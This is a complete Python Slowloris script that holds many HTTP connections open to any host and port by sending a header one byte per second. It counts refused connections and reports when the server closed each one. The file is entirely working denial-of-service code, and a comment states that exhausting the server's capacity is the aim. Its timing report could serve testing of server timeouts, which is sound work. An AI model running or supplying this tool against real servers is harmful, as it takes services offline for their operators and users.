"""Slowloris: holds N connections open by sending a request's header
section one byte per second, and reports when the server closed each.
Usage: slowloris.py HOST PORT CONNECTIONS SECONDS
Prints one JSON line: {"opened": n, "unconnected": u, "closed": k,
"seconds_to_close": [...]}.
"""
import json
import socket
import sys
import time

host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
payload = b"GET / HTTP/1.1\r\nHost: slow.example\r\nX-Slow: " + b"a" * 4096
socks = []
unconnected = 0
for _ in range(n):
    try:
        s = socket.create_connection((host, port), timeout=2)
    except OSError:
        # The server's accept queue is full: it is out of capacity, which
        # is the point; the others still go on.
        unconnected += 1
        continue
    s.setblocking(False)
    socks.append((s, time.monotonic()))
closed = {}
start = time.monotonic()
step = 0
while time.monotonic() - start < seconds and len(closed) < len(socks):
    for i, (s, opened) in enumerate(socks):
        if i in closed:
            continue
        try:
            s.send(payload[step:step + 1])
        except BlockingIOError:
            pass
        except OSError:
            closed[i] = time.monotonic() - opened
            continue
        try:
            if s.recv(4096) is not None:
                # EOF, or an answer (such as 408) before the connection ends.
                closed[i] = time.monotonic() - opened
        except BlockingIOError:
            pass
        except OSError:
            closed[i] = time.monotonic() - opened
    step += 1
    time.sleep(1)
print(json.dumps({"opened": len(socks), "unconnected": unconnected, "closed": len(closed),
                  "seconds_to_close": sorted(closed.values())}), flush=True)
